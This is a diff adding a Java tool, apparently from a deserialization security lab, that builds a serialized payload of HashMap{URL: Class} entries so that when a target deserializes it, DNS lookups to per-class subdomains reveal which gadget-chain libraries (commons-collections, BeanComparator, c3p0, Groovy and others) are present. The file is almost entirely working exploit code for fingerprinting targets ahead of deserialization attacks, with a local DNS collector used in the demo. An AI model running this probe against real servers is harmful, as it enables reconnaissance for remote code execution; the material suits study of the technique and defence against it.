@@ -0,0 +1,260 @@
+package org.su18.serialize.ysoserial.URLDNS;
+
+import javassist.ClassPool;
+import org.su18.serialize.lab.DnsCollector;
+import org.su18.serialize.utils.SerializationMinimizer;
+
+import java.io.ByteArrayInputStream;
+import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.io.ObjectInputStream;
+import java.io.ObjectOutputStream;
+import java.lang.reflect.Field;
+import java.net.URL;
+import java.net.URLStreamHandler;
+import java.security.SecureRandom;
+import java.util.*;
+
+/**
+ * 在一个 payload 中探测多个类是否存在
+ * <p>
+ * 每个类对应一个 HashMap{URL: Class}，反序列化 HashMap 时先读 key 再读 value，value 的类不存在时抛出 ClassNotFoundException，
+ * 不会走到 putVal 计算 URL 的 hashCode，也就不会发起 DNS 查询；类存在时正常触发。每个类使用不同的子域名，
+ * 根据收到的域名就能知道哪些类存在
+ * <p>
+ * 多个 HashMap 放在一个 Object[] 中：自定义 readObject 抛出的 ClassNotFoundException 会被 ObjectInputStream 记录在对应的 handle 上，
+ * 数组继续读取后面的元素，因此一个类不存在不影响其他探测，只是最外层的 readObject 最终会抛出异常。
+ * HashMap、URL 的类描述符在流中只写一次，之后都是 TC_REFERENCE；URL 中值相同的字符串字段指向同一个对象，
+ * 也只写一次，每多一个类只增加一个 HashMap、一个 URL、子域名和类描述符的大小
+ * <p>
+ * value 使用 javassist 生成的同名空类，放在单独的 ClassLoader 中，只用来写出 Class 对象的类描述符，生成时不需要依赖目标的类。
+ * 空类没有实现 Serializable，目标上的类是否可序列化都可以通过类描述符的校验；只有本地存在的枚举使用真实的类，
+ * 本地不存在而目标上是枚举的类不能这样探测
+ * <p>
+ * 用法：java URLDNSProbe [类名...]，在进程内启动 DnsCollector，本地反序列化后打印每个类是否存在
+ *
+ * @author su18
+ */
+public class URLDNSProbe {
+
+	private static final String[] DEFAULT_CLASSES = {
+			"org.apache.commons.collections.functors.InvokerTransformer",
+			"org.apache.commons.collections4.functors.InvokerTransformer",
+			"org.apache.commons.beanutils.BeanComparator",
+			"com.mchange.v2.c3p0.PoolBackedDataSource",
+			"org.codehaus.groovy.runtime.MethodClosure",
+			"com.sun.syndication.feed.impl.ObjectBean",
+			"org.springframework.aop.support.DefaultBeanFactoryPointcutAdvisor",
+			"bsh.Interpreter",
+			"clojure.core$comp",
+			"org.su18.NotExists"
+	};
+
+	private final String zone;
+
+	private final String batch;
+
+	private final Map<String, String> hosts = new LinkedHashMap<String, String>();
+
+	private final Map<String, String> strings = new HashMap<String, String>();
+
+	private final URLStreamHandler handler = new URLDNS3.SilentURLStreamHandler();
+
+	/**
+	 * 父加载器为 null，不会委派到本地真实的类
+	 */
+	private final ClassLoader stubLoader = new ClassLoader(null) {
+	};
+
+	private final ClassPool pool = new ClassPool(true);
+
+
+	/**
+	 * @param zone 自动生成子域名时使用的域名后缀
+	 */
+	public URLDNSProbe(String zone) {
+		byte[] bytes = new byte[3];
+		new SecureRandom().nextBytes(bytes);
+		StringBuilder sb = new StringBuilder();
+		for (byte b : bytes) {
+			sb.append(Character.forDigit((b >> 4) & 0xf, 16)).append(Character.forDigit(b & 0xf, 16));
+		}
+		this.zone = zone;
+		this.batch = sb.toString();
+	}
+
+	public static void main(String[] args) throws Exception {
+		String[] classes = args.length > 0 ? args : DEFAULT_CLASSES;
+
+		DnsCollector collector = new DnsCollector("dnslog.lab").start();
+		if (!collector.installNameService()) {
+			System.err.println("* name service not installed, only JDK 8 is supported");
+		}
+
+		URLDNSProbe                     probe  = new URLDNSProbe(collector.getZone());
+		Map<String, DnsCollector.Probe> issued = new LinkedHashMap<String, DnsCollector.Probe>();
+		for (String className : classes) {
+			DnsCollector.Probe p = collector.issue(className);
+			issued.put(className, p);
+			probe.add(className, p.getHost());
+		}
+
+		URLDNSProbe single = new URLDNSProbe(collector.getZone());
+		single.add(classes[0]);
+		byte[] one       = single.serialize(false);
+		byte[] batched   = probe.serialize(false);
+		byte[] minimized = probe.serialize(true);
+		System.out.printf("1 class: %d bytes, %d classes: %d bytes (%d per class), minimized: %d bytes%n", one.length,
+				classes.length, batched.length, (batched.length - one.length) / Math.max(1, classes.length - 1), minimized.length);
+
+		try {
+			ObjectInputStream ois = new ObjectInputStream(new ByteArrayInputStream(minimized));
+			ois.readObject();
+			ois.close();
+		} catch (ClassNotFoundException e) {
+			// 至少一个类不存在，此时 DNS 查询已经发出
+			System.out.println("* readObject: " + e);
+		}
+
+		for (Map.Entry<String, DnsCollector.Probe> entry : issued.entrySet()) {
+			System.out.println((entry.getValue().isFired() ? "[+] " : "[-] ") + entry.getKey());
+		}
+		collector.close();
+	}
+
+	/**
+	 * 添加一个类，子域名自动生成，格式为 序号.批次.zone
+	 *
+	 * @param className 类名
+	 * @return 返回该类对应的域名
+	 */
+	public String add(String className) {
+		return add(className, "c" + hosts.size() + "." + batch + "." + zone);
+	}
+
+	/**
+	 * 添加一个类，使用指定的域名，例如 DnsCollector 生成的探测
+	 *
+	 * @param className 类名
+	 * @param host      域名
+	 * @return 返回 host
+	 */
+	public String add(String className, String host) {
+		hosts.put(className, host);
+		return host;
+	}
+
+	/**
+	 * 类名到域名的映射，按添加顺序
+	 */
+	public Map<String, String> getHosts() {
+		return Collections.unmodifiableMap(hosts);
+	}
+
+	/**
+	 * 根据收到的域名找出存在的类
+	 *
+	 * @param names 收到的 DNS 查询
+	 * @return 返回存在的类
+	 */
+	public List<String> resolve(Collection<String> names) {
+		Set<String> set = new HashSet<String>();
+		for (String name : names) {
+			set.add(name.toLowerCase());
+		}
+		List<String> list = new ArrayList<String>();
+		for (Map.Entry<String, String> entry : hosts.entrySet()) {
+			if (set.contains(entry.getValue().toLowerCase())) {
+				list.add(entry.getKey());
+			}
+		}
+		return list;
+	}
+
+	/**
+	 * 生成探测对象
+	 *
+	 * @return 返回 Object[]，每个元素为 HashMap{URL: Class}
+	 * @throws Exception 生成失败
+	 */
+	public Object[] build() throws Exception {
+		Object[] root  = new Object[hosts.size()];
+		int      index = 0;
+		for (Map.Entry<String, String> entry : hosts.entrySet()) {
+			URL url = new URL(null, "http://" + entry.getValue(), handler);
+			share(url);
+
+			HashMap<URL, Class<?>> map = new HashMap<URL, Class<?>>(2);
+			map.put(url, resolveClass(entry.getKey()));
+
+			// put 时已经计算过 hashCode，改回 -1 让目标重新计算
+			Field f = URL.class.getDeclaredField("hashCode");
+			f.setAccessible(true);
+			f.set(url, -1);
+
+			root[index++] = map;
+		}
+		return root;
+	}
+
+	/**
+	 * 序列化探测对象
+	 *
+	 * @param minimize 是否再经过 SerializationMinimizer 压缩
+	 * @return 返回序列化数据
+	 * @throws Exception 生成失败
+	 */
+	public byte[] serialize(boolean minimize) throws Exception {
+		ByteArrayOutputStream bos = new ByteArrayOutputStream();
+		ObjectOutputStream    oos = new ObjectOutputStream(bos);
+		oos.writeObject(build());
+		oos.close();
+
+		byte[] bytes = bos.toByteArray();
+		return minimize ? new SerializationMinimizer().minimize(bytes) : bytes;
+	}
+
+	/**
+	 * 值相同的字符串字段改为同一个对象，序列化时只写一次
+	 */
+	private void share(URL url) throws Exception {
+		for (String name : new String[]{"protocol", "host", "authority", "file", "ref"}) {
+			Field field = URL.class.getDeclaredField(name);
+			field.setAccessible(true);
+			String value = (String) field.get(url);
+			if (value == null) {
+				continue;
+			}
+			String shared = strings.get(value);
+			if (shared == null) {
+				strings.put(value, value);
+			} else {
+				field.set(url, shared);
+			}
+		}
+	}
+
+	/**
+	 * 生成同名的空类，类描述符中没有字段和父类，比本地真实类的描述符小得多。本地存在的枚举使用真实的类，
+	 * 否则目标会因为枚举标记不一致而拒绝整个流
+	 */
+	@SuppressWarnings({"deprecation"})
+	private Class<?> resolveClass(String className) throws IOException {
+		try {
+			Class<?> local = Class.forName(className, false, URLDNSProbe.class.getClassLoader());
+			if (local.isEnum()) {
+				return local;
+			}
+		} catch (ClassNotFoundException ignored) {
+		}
+		try {
+			return Class.forName(className, false, stubLoader);
+		} catch (ClassNotFoundException ignored) {
+		}
+		try {
+			return pool.makeClass(className).toClass(stubLoader);
+		} catch (Exception e) {
+			throw new IOException("cannot generate stub for " + className, e);
+		}
+	}
+}